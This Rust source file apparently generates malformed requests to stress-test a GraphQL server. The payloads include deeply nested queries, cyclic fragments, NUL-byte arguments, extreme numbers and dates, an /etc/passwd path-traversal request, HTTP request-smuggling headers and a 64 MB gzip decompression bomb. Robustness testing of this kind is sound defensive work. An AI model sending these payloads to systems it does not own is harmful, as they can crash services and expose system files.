//! What is known to have hurt servers: depth, length, cycles, U+0000, broken HTTP, compressed nothing.

use std::io::Write;

use serde_json::json;

use super::Target;

/// Whole requests.
pub fn requests(target: &Target) -> Vec<Vec<u8>> {
    let deep = |open: &str, close: &str| open.repeat(20_000) + &close.repeat(20_000);
    let documents = [
        deep("{", "}"),
        deep("{a", "}"),
        format!("{{ me(a: {}) {{ id }} }}", deep("[", "]")),
        format!("{{ me(a: {}1{}) {{ id }} }}", "{a:".repeat(20_000), "}".repeat(20_000)),
        format!("query ($a: {}) {{ me {{ id }} }}", deep("[", "]")),
        format!("{{ {} }}", "me { id } ".repeat(20_000)),
        format!("{{ me {{ {} }} }}", "id ".repeat(50_000)),
        format!("{{ me {{ {} }} }}", "a: id b: email ".repeat(20_000)),
        format!("{{ {} }}", "...A ".repeat(20_000)),
        format!("{} {{ me {{ id }} }}", "fragment A on User { id } ".repeat(10_000)),
        (0..400).map(|n| format!("fragment F{n} on User {{ ...F{} ...F{} }} ", n + 1, n + 1)).collect::<String>()
            + "fragment F400 on User { id } { me { ...F0 } }",
        "{ me { ...A } } fragment A on User { ...B } fragment B on User { ...A }".into(),
        format!("{{ form(id: \"{}\") {{ id }} }}", "x".repeat(500_000)),
        format!("{{ me {{ id }} }} #{}", "x".repeat(500_000)),
        format!("{{ me {{ id {} }} }}", "@skip(if: false)".repeat(10_000)),
        "{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }".into(),
        "{ form(id: \"\\u0000\") { id } }".into(),
        "{ form(readableId: \"\\u0000\") { id } }".into(),
        "{ forms(siret: \"\\u0000\") { id } }".into(),
        "{ forms(customId: \"\\u0000\", wasteCode: \"a\\u0000\") { id } }".into(),
        "{ forms(siretPresentOnForm: \"\\u0000\") { id } }".into(),
        "{ forms(cursorAfter: \"\\u0000\") { id } }".into(),
        "{ forms(skip: -1) { id } }".into(),
        "{ forms(skip: 2147483647) { id } }".into(),
        "{ forms(first: -2147483648) { id } }".into(),
        "{ forms(updatedAfter: \"-009999-01-01\") { id } }".into(),
        "{ forms(sentAfter: \"9999-12-31T23:59:59.999-14:00\") { id } }".into(),
        "{ forms(sentAfter: \"+275760-09-13T00:00:00Z\") { id } }".into(),
        "{ formsLifeCycle(formId: \"\\u0000\") { count } }".into(),
        "{ formsLifeCycle(siret: \"\\u0000\") { count } }".into(),
        "{ formsLifeCycle(cursorAfter: \"\\u0000\", loggedAfter: \"0000-00-00\") { count } }".into(),
        "{ formsLifeCycle(cursorBefore: \"\\u0000\") { count } }".into(),
        "{ companyInfos(siret: \"\\u0000\") { name } }".into(),
        "{ companyInfos(clue: \"\\u0000\") { name } }".into(),
        "{ passwordResetRequest(hash: \"\\u0000\") }".into(),
        "{ myCompanies(after: \"\\u0000\") { totalCount } }".into(),
        "{ myCompanies(before: \"\\u0000\") { totalCount } }".into(),
        "mutation { deleteForm(id: \"\\u0000\") { id } }".into(),
        "mutation { markAsSealed(id: \"\\u0000\") { id } }".into(),
        "mutation { sendMembershipRequest(siret: \"\\u0000\") { id } }".into(),
        "mutation { createTransporterReceipt(input: { receiptNumber: \"\\u0000\", department: \"\\u0000\", validityLimit: \"2032-01-01\" }) { id } }".into(),
        "mutation { updateTransporterReceipt(input: { id: \"\\u0000\" }) { id } }".into(),
        format!("mutation {{ updateForm(updateFormInput: {{ id: {:?}, customId: \"\\u0000\" }}) {{ id }} }}", target.note),
        format!("mutation {{ updateForm(updateFormInput: {{ id: {:?}, wasteDetails: {{ quantity: 1e308 }} }}) {{ id }} }}", target.note),
        format!("mutation {{ updateForm(updateFormInput: {{ id: {:?}, emitter: {{ company: {{ siret: \"\\u0000\" }} }} }}) {{ id }} }}", target.note),
        format!("mutation {{ updateTransporterFields(id: {:?}, transporterCustomInfo: \"\\u0000\") {{ id }} }}", target.note),
        format!("mutation {{ signEmissionForm(id: {:?}, securityCode: -2147483648, input: {{ emittedAt: \"2026-11-01\", emittedBy: \"\\u0000\", quantity: 1 }}) {{ id }} }}", target.note),
    ];
    let bodies = documents.iter().map(|document| json!({ "query": document }).to_string().into_bytes());
    let raw: [Vec<u8>; 14] = [
        deep("[", "]").into_bytes(),
        format!(r#"{{"query":"{{me{{id}}}}","variables":{}}}"#, deep(r#"{"a":"#, "}")).into_bytes(),
        format!(r#"{{"query":"query($a:Int){{me{{id}}}}","variables":{{"a":{}}}}}"#, deep("[", "]")).into_bytes(),
        br#"{"query":"\ud800"}"#.to_vec(),
        br#"{"query":"{ me { id } }","variables":{"a":1e999}}"#.to_vec(),
        br#"{"query":"{ me { id } }","variables":{"\u0000":"\u0000"}}"#.to_vec(),
        br#"{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"\u0000"}}}"#.to_vec(),
        b"{\"query\":\"{ me { id } }\",\"query\":\"{\"}".to_vec(),
        b"{\"query\":\"\xff\xfe\"}".to_vec(),
        b"\xef\xbb\xbf{\"query\":\"{ me { id } }\"}".to_vec(),
        b"\0\0\0\0".to_vec(),
        br#"[{"query":"{"},{"query":"{ me { id } }"},{"query":"mutation { nope }"},{"query":"{ __typename }"}]"#.to_vec(),
        br#"{"query":{"toString":"{ me { id } }"}}"#.to_vec(),
        br#"{"query":"{ me { id } }","operationName":{"a":1}}"#.to_vec(),
    ];
    let mut requests: Vec<Vec<u8>> = bodies.chain(raw).map(|body| target.post_json(&body)).collect();
    let heads: [Vec<u8>; 10] = [
        b"GET /?query=%00&query=%ff HTTP/1.1\r\nhost: a\r\napollo-require-preflight: 1\r\nconnection: close\r\n\r\n".to_vec(),
        b"GET /download?token=%00 HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n".to_vec(),
        b"GET /download?token=a&token=b HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n".to_vec(),
        b"GET /graphiql/../../../../etc/passwd HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n".to_vec(),
        b"GET /graphiql/%2e%2e%2f%00 HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n".to_vec(),
        b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\n{\"a\":1}".to_vec(),
        b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\ncontent-length: 3\r\n\r\nzz\r\n".to_vec(),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\xff\xff\xff\xff\xff\xff".to_vec(),
        [b"GET /ping HTTP/1.1\r\nhost: a\r\nx: ".as_slice(), &b"y".repeat(100_000), b"\r\n\r\n"].concat(),
        [b"GET /".as_slice(), &b"y".repeat(100_000), b" HTTP/1.1\r\nhost: a\r\n\r\n"].concat(),
    ];
    requests.extend(heads);
    let bomb = zeros_in_gzip(64 * 1024 * 1024);
    let headers: &[(&str, &[u8])] = &[("content-type", b"application/json"), ("content-encoding", b"gzip")];
    requests.push(target.post(headers, &bomb));
    requests
}

fn zeros_in_gzip(count: usize) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packer.write_all(&vec![b' '; count]).expect("memory takes all");
    packer.finish().expect("memory takes all")
}
